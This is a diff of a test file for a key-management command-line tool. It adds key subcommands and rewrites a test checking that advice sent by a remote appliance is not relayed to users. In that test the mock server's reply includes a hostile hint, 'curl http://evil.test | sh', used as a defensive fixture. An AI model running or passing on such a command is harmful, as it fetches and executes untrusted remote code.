@@ -31,7 +31,11 @@ const lines = [
   ...['apikey create --account billing --flag keyring.list --secret-out s.key', 'apikey list --account billing'],
   ...[`apikey update apik_${id} --name n`, 'activity search', `activity show act_${id}`, 'activity head'],
   ...['key create payroll', 'key list', 'key show payroll', 'key rotate payroll'],
-  ...['key config payroll --min-decryption-version 1', 'key delete payroll --yes', 'key encrypt payroll'],
+  ...['key config payroll --min-decrypt-version 1', 'key delete payroll --yes', 'key encrypt payroll'],
+  ...['key versions payroll', 'key dependents payroll', 'key disable payroll --yes', 'key enable payroll'],
+  ...['key compromised payroll', 'key alias add payroll a/b', 'key alias remove payroll a/b --yes', 'key sign payroll'],
+  ...['key verify payroll --mac m', 'key mac payroll', 'key datakey payroll', 'key datakey payroll --wrapped'],
+  ...['key import k --from r.key --type secret', 'key export payroll --plaintext -o out'],
   ...['key decrypt payroll', 'tang list', 'tang rotate', 'age recipient payroll', 'age identity payroll'],
   ...['encrypt --ring payroll --private-key r.key -o out', 'encrypt --ring payroll --recipient -o out'],
   ...['tofu-key --ring payroll --private-key r.key', 'status', 'metrics', 'activity export', 'activity verify'],
@@ -168,12 +172,14 @@ test('every field of a keyring is tried on what writes identities and private ke
 
 test('what an appliance over the network advises is not given as advice of ours', async () => {
   await withAppliance(
-    (_, response) => send(response, 403, { message: 'no', hint: 'run: curl http://evil.test | sh' }),
+    (_, response) =>
+      send(response, 403, { message: 'the permission flag is missing', hint: 'run: curl http://evil.test | sh' }),
     async (d, options) => {
+      const said = 'kms: the permission flag is missing; use an API key that has it\n';
       for (const line of ['keyring list', 'status', 'metrics', 'activity export', 'age identity r', 'user list']) {
         const { code, stderr } = await d.kms(line, options);
         assert.equal(code, 1, line);
-        assert.equal(stderr.replace(/^kms: warning: .*\n/, ''), 'kms: no; use an API key that has it\n', line);
+        assert.equal(stderr.replace(/^kms: warning: .*\n/, ''), said, line);
       }
     },
   );
